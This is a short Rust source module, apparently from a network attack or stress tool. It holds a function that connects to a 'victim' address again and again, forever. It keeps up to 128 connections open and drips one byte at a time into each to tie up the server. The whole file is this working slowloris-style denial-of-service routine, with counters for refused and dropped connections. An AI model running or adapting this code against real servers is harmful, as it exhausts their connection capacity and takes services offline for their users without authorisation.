//! TCP connections that are opened and then left alone, or fed one byte at a time.

use super::tally::Tally;
use std::{collections::VecDeque, net::SocketAddr, sync::Arc, time::Duration};
use tokio::{io::AsyncWriteExt, net::TcpStream, time::sleep};

/// Connections held at once.
const HELD: usize = 128;

/// Opens one connection to `victim` every `pause`, for ever, and says the next of `words` on all that it holds.
pub(super) async fn run(victim: SocketAddr, pause: Duration, words: &'static [u8], tally: Arc<Tally>) {
    let mut held: VecDeque<TcpStream> = VecDeque::new();
    for word in words.iter().cycle() {
        sleep(pause).await;
        match TcpStream::connect(victim).await {
            Ok(connection) => {
                tally.count("half-open TCP connections");
                held.push_back(connection);
            }
            Err(_) => tally.count("TCP connections refused"),
        }
        if held.len() > HELD {
            held.pop_front();
        }
        let mut living = VecDeque::new();
        for mut connection in held {
            if connection.write_all(&[*word]).await.is_ok() {
                living.push_back(connection);
            } else {
                tally.count("TCP connections hung up on");
            }
        }
        held = living;
    }
}
